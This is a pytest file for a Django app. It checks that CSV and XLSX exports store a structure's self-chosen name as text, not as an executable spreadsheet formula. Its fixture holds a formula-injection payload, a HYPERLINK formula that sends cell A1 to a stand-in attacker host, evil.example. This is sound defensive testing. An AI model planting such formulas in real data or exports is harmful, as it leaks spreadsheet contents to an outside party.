"""A structure names itself: its name must reach the staff's spreadsheet as text, not a formula."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import AssociationFactory
from tests.indicators.factories import SheetFactory, add_values

from .test_exports import streamed_text

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


@pytest.fixture
def evil(campaign, indicators):
    association = AssociationFactory(name=EVIL, slug="malveillante")
    add_values(SheetFactory(association=association, campaign=campaign), indicators, personnes=3)
    return association


@pytest.mark.parametrize(
    "url",
    [
        reverse("indicators:export_campaign", kwargs={"year": 2026, "fmt": "csv"}),
        reverse("indicators:export_long", kwargs={"fmt": "csv"}),
        reverse("indicators:association_export", kwargs={"slug": "malveillante"}),
    ],
)
def test_csv_exports_neutralise_formulas(client, staff_user, evil, url):
    client.force_login(staff_user)
    lines = streamed_text(client.get(url)).splitlines()[1:]
    assert lines and all(line.startswith("\"'=HYPERLINK") for line in lines)


@pytest.mark.parametrize(
    "url",
    [
        reverse("indicators:export_campaign", kwargs={"year": 2026, "fmt": "xlsx"}),
        reverse("indicators:export_long", kwargs={"fmt": "xlsx"}),
    ],
)
def test_xlsx_exports_store_text_not_formulas(client, staff_user, evil, url):
    client.force_login(staff_user)
    response = client.get(url)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL
    assert 3 in [c.value for c in sheet[2]]  # numbers stay numbers
